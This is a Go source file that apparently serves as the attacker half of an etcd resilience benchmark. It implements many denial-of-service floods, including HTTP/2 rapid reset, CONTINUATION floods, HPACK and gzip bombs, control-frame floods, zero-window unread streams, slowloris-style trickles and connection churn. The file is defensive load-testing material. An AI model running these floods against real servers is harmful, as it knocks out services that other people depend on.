package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"runtime"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	clientv3 "go.etcd.io/etcd/client/v3"
	"golang.org/x/net/http2"
)

// One attacker for tests/bench/floods.py: it sends one kind of flood as fast as one core can, over the number of
// connections asked for, and opens a connection anew when the server ends it. It obeys lines on standard input:
//
//	on            begin
//	off           close everything; answers `ok BYTES CONNECTIONS ENDED HOW`: bytes sent, connections opened,
//	              connections that the server ended, and how: GOAWAY codes with their counts, or `-`
//
// The bystander (bystander.go) measures what others notice of it.

// flood is how one kind is made. A connection first sends `hello`, then what `next` appends, again and again.
type flood struct {
	hello  func(c *attack)
	next   func(c *attack, out []byte) []byte
	reads  bool                                                                 // reads and drops the answers
	pause  time.Duration                                                        // between two pieces: a trickle
	client func(ctx context.Context, endpoint string, sent *atomic.Int64) error // instead: a stock client's loop
}

// attack is one connection of a flood.
type attack struct {
	conn   net.Conn
	stream uint32
	window atomic.Int64 // of the connection, for DATA
	first  atomic.Int64 // of stream 1
	rounds int
	spare  []byte
}

const streamsMax = 1 << 30

func frameOf(out []byte, kind http2.FrameType, flags http2.Flags, stream uint32, payload []byte) []byte {
	n := len(payload)
	out = append(out, byte(n>>16), byte(n>>8), byte(n), byte(kind), byte(flags))
	out = binary.BigEndian.AppendUint32(out, stream)
	return append(out, payload...)
}

func blockOf(path string) []byte {
	var block []byte
	for _, h := range grpcHeaders(path) {
		block = appendLiteral(block, h.name, h.value)
	}
	return block
}

func number32(n uint32) []byte { return binary.BigEndian.AppendUint32(nil, n) }

func settingsFrame(initialWindow uint32) []byte {
	return frameOf(nil, http2.FrameSettings, 0, 0, append([]byte{0, 4}, number32(initialWindow)...))
}

// hello begins HTTP/2 with stream windows of `window` bytes for the answers.
func hello(window uint32) func(c *attack) {
	return func(c *attack) {
		out := append([]byte(http2.ClientPreface), settingsFrame(window)...)
		out = frameOf(out, http2.FrameWindowUpdate, 0, 0, number32(1<<30))
		_, _ = c.conn.Write(out)
	}
}

// spend waits until the connection's window has room for n bytes of DATA, or gives up after a moment.
func (c *attack) spend(n int, single bool) bool {
	for range 1000 {
		if c.window.Load() >= int64(n) && (!single || c.first.Load() >= int64(n)) {
			c.window.Add(-int64(n))
			if single {
				c.first.Add(-int64(n))
			}
			return true
		}
		time.Sleep(100 * time.Microsecond)
	}
	return false
}

// calls makes whole or half requests on streams of their own; with `reset` each is given up at once.
func calls(path string, body []byte, end, reset bool, perPiece int) flood {
	block := blockOf(path)
	return flood{hello: hello(1 << 20), reads: true, next: func(c *attack, out []byte) []byte {
		if body != nil && !c.spend(len(body)*perPiece, false) {
			return out
		}
		for range perPiece {
			out = frameOf(out, http2.FrameHeaders, http2.FlagHeadersEndHeaders, c.stream, block)
			if body != nil {
				flags := http2.Flags(0)
				if end {
					flags = http2.FlagDataEndStream
				}
				out = frameOf(out, http2.FrameData, flags, c.stream, body)
			}
			if reset {
				out = frameOf(out, http2.FrameRSTStream, 0, c.stream, number32(uint32(http2.ErrCodeCancel)))
			}
			c.stream += 2
		}
		return out
	}}
}

// repeat sends the same frame for ever.
func repeat(kind http2.FrameType, payload []byte, onStream, reads bool) flood {
	return flood{reads: reads, hello: func(c *attack) {
		hello(1 << 20)(c)
		out := frameOf(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, blockOf(watchPath))
		_, _ = c.conn.Write(out)
	}, next: func(c *attack, out []byte) []byte {
		stream := uint32(0)
		if onStream {
			stream = 1
		}
		for range 1000 {
			out = frameOf(out, kind, 0, stream, payload)
		}
		return out
	}}
}

// continuations never end a header block.
func continuations(fragment []byte) flood {
	return flood{reads: true, hello: func(c *attack) {
		hello(1 << 20)(c)
		_, _ = c.conn.Write(frameOf(nil, http2.FrameHeaders, 0, 1, blockOf(rangePath)))
	}, next: func(c *attack, out []byte) []byte {
		for range max(1, 16_000/(len(fragment)+9)) {
			out = frameOf(out, http2.FrameContinuation, 0, 1, fragment)
		}
		return out
	}}
}

// bomb fills the compression table once and names the large entry in each of 400 requests, as often as fits.
func bomb() flood {
	return flood{reads: true, hello: hello(1 << 20), next: func(c *attack, out []byte) []byte {
		if c.rounds == 0 {
			first := blockOf(watchPath)
			first = append(first, 0x40, 1, 'a', 0x7f, 0xa1, 0x1e) // a literal of 4,000 bytes, into the table
			first = append(first, bytes.Repeat([]byte{'v'}, 4000)...)
			out = frameOf(out, http2.FrameHeaders, http2.FlagHeadersEndHeaders, c.stream, first)
			c.stream += 2
		}
		c.rounds++
		if c.rounds > 400 {
			time.Sleep(time.Millisecond)
			return out
		}
		block := append(blockOf(watchPath), bytes.Repeat([]byte{0x80 | 62}, 260)...)
		out = frameOf(out, http2.FrameHeaders, http2.FlagHeadersEndHeaders, c.stream, block)
		c.stream += 2
		return out
	}}
}

// bombs is the same for ever: the streams are reset.
func bombs() flood {
	once := bomb()
	return flood{reads: true, hello: once.hello, next: func(c *attack, out []byte) []byte {
		c.rounds = c.rounds % 300
		stream := c.stream
		out = once.next(c, out)
		if c.rounds > 1 {
			out = frameOf(out, http2.FrameRSTStream, 0, stream, number32(uint32(http2.ErrCodeCancel)))
		}
		return out
	}}
}

// unread sends messages on one stream whose answers have no window.
func unread(path string, body []byte) flood {
	framed := message(0, body)
	return flood{reads: true, hello: func(c *attack) {
		hello(0)(c)
		_, _ = c.conn.Write(frameOf(nil, http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, blockOf(path)))
	}, next: func(c *attack, out []byte) []byte {
		for range 100 {
			if !c.spend(len(framed), true) {
				break
			}
			out = frameOf(out, http2.FrameData, 0, 1, framed)
		}
		return out
	}}
}

// http1 sends `begin` and then `again` for ever.
func http1(begin, again string, reads bool) flood {
	return flood{reads: reads, hello: func(c *attack) { _, _ = io.WriteString(c.conn, begin) },
		next: func(_ *attack, out []byte) []byte { return append(out, again...) }}
}

const keepAlivePath = "/etcdserverpb.Lease/LeaseKeepAlive"

// zeros is a message of n zero bytes, compressed.
func zeros(n int) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = w.Write(make([]byte, n))
	_ = w.Close()
	return message(1, out.Bytes())
}

func floods() map[string]flood {
	rangeBody, _ := (&pb.RangeRequest{Key: []byte("absent"), Serializable: true}).Marshal()
	longRange, _ := (&pb.RangeRequest{Key: []byte("long/"), RangeEnd: []byte("long0"), Serializable: true}).Marshal()
	create, _ := (&pb.WatchRequest{RequestUnion: &pb.WatchRequest_CreateRequest{
		CreateRequest: &pb.WatchCreateRequest{Key: []byte("flood")}}}).Marshal()
	alive, _ := (&pb.LeaseKeepAliveRequest{ID: 12345}).Marshal()
	put, _ := (&pb.PutRequest{Key: []byte("flood"), Value: []byte("v")}).Marshal()
	count, _ := (&pb.RangeRequest{Key: []byte{0}, RangeEnd: []byte{0}, CountOnly: true, Serializable: true}).Marshal()
	sorted, _ := (&pb.RangeRequest{Key: []byte{0}, RangeEnd: []byte{0}, SortTarget: pb.RangeRequest_VALUE,
		SortOrder: pb.RangeRequest_DESCEND, Limit: 10, Serializable: true}).Marshal()
	bombed := calls(rangePath, zeros(2<<20-100), true, false, 1)
	bombBlock := blockOf(rangePath)
	bombBlock = appendLiteral(bombBlock, "grpc-encoding", "gzip")
	bombBody := zeros(2<<20 - 100)
	bombed.next = func(c *attack, out []byte) []byte {
		if !c.spend(len(bombBody), false) {
			return out
		}
		out = frameOf(out, http2.FrameHeaders, http2.FlagHeadersEndHeaders, c.stream, bombBlock)
		out = frameOf(out, http2.FrameData, http2.FlagDataEndStream, c.stream, bombBody)
		c.stream += 2
		return out
	}
	unreadRanges := calls(rangePath, message(0, longRange), true, false, 1)
	unreadRanges.hello = hello(0)
	half := calls(putPath, append([]byte{0, 0, 0x1f, 0, 0}, make([]byte, 200)...), false, false, 10)
	halfNext := half.next
	half.next = func(c *attack, out []byte) []byte {
		if c.rounds++; c.rounds > 100 {
			time.Sleep(time.Millisecond)
			return out
		}
		return halfNext(c, out)
	}
	settings := repeat(http2.FrameSettings, nil, false, true)
	settingsUnread := repeat(http2.FrameSettings, nil, false, false)
	get := "GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"
	post := "POST /health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
	trickle := http1("GET /health HTTP/1.1\r\n", "x", true)
	trickle.pause = 20 * time.Millisecond
	idle := http1("GET /health HTTP/1.1\r\nHo", "", true)
	idle.pause = time.Second
	return map[string]flood{
		"reset-headers":    calls(rangePath, nil, false, true, 100),
		"reset-unary":      calls(rangePath, message(0, rangeBody), true, true, 100),
		"reset-watch":      calls(watchPath, message(0, create), false, true, 100),
		"reset-keepalive":  calls(keepAlivePath, message(0, alive), false, true, 100),
		"reset-put":        calls(putPath, message(0, put), true, true, 100),
		"range-calls":      calls(rangePath, message(0, rangeBody), true, false, 100),
		"continuation":     continuations([]byte{}),
		"continuation-16k": continuations(bytes.Repeat([]byte{0x82}, 16_000)),
		"settings":         settings,
		"settings-unread":  settingsUnread,
		"ping":             repeat(http2.FramePing, make([]byte, 8), false, true),
		"ping-unread":      repeat(http2.FramePing, make([]byte, 8), false, false),
		"empty-data":       repeat(http2.FrameData, nil, true, true),
		"window-update":    repeat(http2.FrameWindowUpdate, number32(1), false, true),
		"priority":         repeat(http2.FramePriority, []byte{0, 0, 0, 0, 16}, true, true),
		"unknown-frames":   repeat(http2.FrameType(0x42), nil, false, true),
		"hpack-bomb":       bomb(),
		"hpack-bombs":      bombs(),
		"unread-watch":     unread(watchPath, create),
		"unread-keepalive": unread(keepAlivePath, alive),
		"unread-range":     unreadRanges,
		"http1-pipeline":   http1("", strings.Repeat(get, 100), false),
		"http1-extension":  http1(post+"5;", strings.Repeat("e", 16_000), true),
		"http1-trailers":   http1(post+"0\r\n", strings.Repeat("a: b\r\n", 2_000), true),
		"http1-headers":    http1("GET /health HTTP/1.1\r\n", strings.Repeat("a: b\r\n", 2_000), true),
		"http1-trickle":    trickle,
		"http1-idle":       idle,
		"churn":            {client: churn},
		"gzip-bomb":        bombed,
		"huge-length":      calls(putPath, []byte{0, 0xff, 0xff, 0xff, 0xff}, false, false, 100),
		"half-sent":        half,
		"watch-churn":      {client: watchChurnFlood},
		"count":            calls(rangePath, message(0, count), true, false, 1),
		"sorted":           calls(rangePath, message(0, sorted), true, false, 1),
	}
}

// churn connects and closes.
func churn(ctx context.Context, endpoint string, sent *atomic.Int64) error {
	for ctx.Err() == nil {
		conn, err := dialServer(endpoint, true)
		if err != nil {
			return err
		}
		abort(conn)
		sent.Add(1)
	}
	return nil
}

func watchChurnFlood(ctx context.Context, endpoint string, sent *atomic.Int64) error {
	c, err := newClient(endpoint)
	if err != nil {
		return err
	}
	defer c.Close()
	var group sync.WaitGroup
	for i := range 20 {
		group.Go(func() {
			for ctx.Err() == nil {
				one, cancel := context.WithCancel(clientv3.WithRequireLeader(ctx))
				events := c.Watch(one, fmt.Sprintf("churn/%d", i), clientv3.WithCreatedNotify())
				<-events
				cancel()
				for range events {
				}
				sent.Add(1)
			}
		})
	}
	group.Wait()
	return nil
}

// attackers is the flood while it is on.
type attackers struct {
	flood    flood
	endpoint string
	cancel   context.CancelFunc
	group    sync.WaitGroup
	sent     atomic.Int64
	opened   atomic.Int64
	ended    atomic.Int64
	mutex    sync.Mutex
	how      map[string]int
}

func (a *attackers) note(how string) {
	a.mutex.Lock()
	defer a.mutex.Unlock()
	a.how[how]++
}

// read drops what arrives, keeps the windows, and notes a GOAWAY.
func (a *attackers) read(c *attack, http2Frames bool) {
	in := bufio.NewReaderSize(c.conn, 1<<16)
	if !http2Frames {
		_, _ = io.Copy(io.Discard, in)
		return
	}
	var head [9]byte
	var small [8]byte
	for {
		if _, err := io.ReadFull(in, head[:]); err != nil {
			return
		}
		n := int(head[0])<<16 | int(head[1])<<8 | int(head[2])
		stream := binary.BigEndian.Uint32(head[5:])
		kind := http2.FrameType(head[3])
		if n >= 4 && n <= len(small) || kind == http2.FrameGoAway && n >= 8 {
			m := min(n, 8)
			if _, err := io.ReadFull(in, small[:m]); err != nil {
				return
			}
			n -= m
			switch kind {
			case http2.FrameWindowUpdate:
				grown := int64(binary.BigEndian.Uint32(small[:]))
				if stream == 0 {
					c.window.Add(grown)
				} else if stream == 1 {
					c.first.Add(grown)
				}
			case http2.FrameGoAway:
				a.note("GOAWAY:" + http2.ErrCode(binary.BigEndian.Uint32(small[4:])).String())
			}
		}
		if _, err := in.Discard(n); err != nil {
			return
		}
	}
}

// one runs one connection until the server ends it.
func (a *attackers) one(ctx context.Context) {
	conn, err := dialServer(a.endpoint, !strings.HasPrefix(floodKind, "http1"))
	if err != nil {
		a.note("no connection")
		time.Sleep(10 * time.Millisecond)
		return
	}
	a.opened.Add(1)
	c := &attack{conn: conn, stream: 1}
	c.window.Store(65535)
	c.first.Store(65535)
	over := context.AfterFunc(ctx, func() { abort(conn) })
	defer over()
	defer conn.Close()
	a.flood.hello(c)
	if a.flood.reads {
		a.group.Go(func() { a.read(c, !strings.HasPrefix(floodKind, "http1")) })
	}
	var out []byte
	for ctx.Err() == nil && c.stream < streamsMax {
		out = a.flood.next(c, out[:0])
		n, err := conn.Write(out)
		a.sent.Add(int64(n))
		if err != nil {
			if ctx.Err() == nil {
				a.ended.Add(1)
			}
			return
		}
		if a.flood.pause > 0 {
			select {
			case <-ctx.Done():
			case <-time.After(a.flood.pause):
			}
		}
	}
}

var floodKind string

func (a *attackers) on(connections int) {
	ctx, cancel := context.WithCancel(context.Background())
	a.cancel = cancel
	a.sent.Store(0)
	a.opened.Store(0)
	a.ended.Store(0)
	a.how = map[string]int{}
	for range connections {
		a.group.Go(func() {
			for ctx.Err() == nil {
				if a.flood.client == nil {
					a.one(ctx)
				} else if err := a.flood.client(ctx, a.endpoint, &a.sent); err != nil && ctx.Err() == nil {
					a.note(strings.ReplaceAll(err.Error(), " ", "_"))
					time.Sleep(10 * time.Millisecond)
				}
			}
		})
	}
}

func (a *attackers) off() string {
	a.cancel()
	a.group.Wait()
	var how []string
	for text, n := range a.how {
		how = append(how, fmt.Sprintf("%s*%d", text, n))
	}
	sort.Strings(how)
	if len(how) == 0 {
		how = []string{"-"}
	}
	return fmt.Sprintf("ok %d %d %d %s", a.sent.Load(), a.opened.Load(), a.ended.Load(), strings.Join(how, ","))
}

func runFlood(args []string) error {
	flags := flag.NewFlagSet("flood", flag.ExitOnError)
	endpoint := flags.String("endpoint", "", "HOST:PORT")
	kind := flags.String("kind", "", "which flood")
	connections := flags.Int("connections", 1, "how many at once")
	_ = flags.Parse(args)
	runtime.GOMAXPROCS(1)
	f, known := floods()[*kind]
	if !known {
		return fmt.Errorf("no flood %q", *kind)
	}
	floodKind = *kind
	a := &attackers{flood: f, endpoint: *endpoint}
	lines := bufio.NewScanner(os.Stdin)
	for lines.Scan() {
		switch lines.Text() {
		case "on":
			a.on(*connections)
			fmt.Println("ok")
		case "off":
			fmt.Println(a.off())
		default:
			return fmt.Errorf("what is %q?", lines.Text())
		}
	}
	return lines.Err()
}
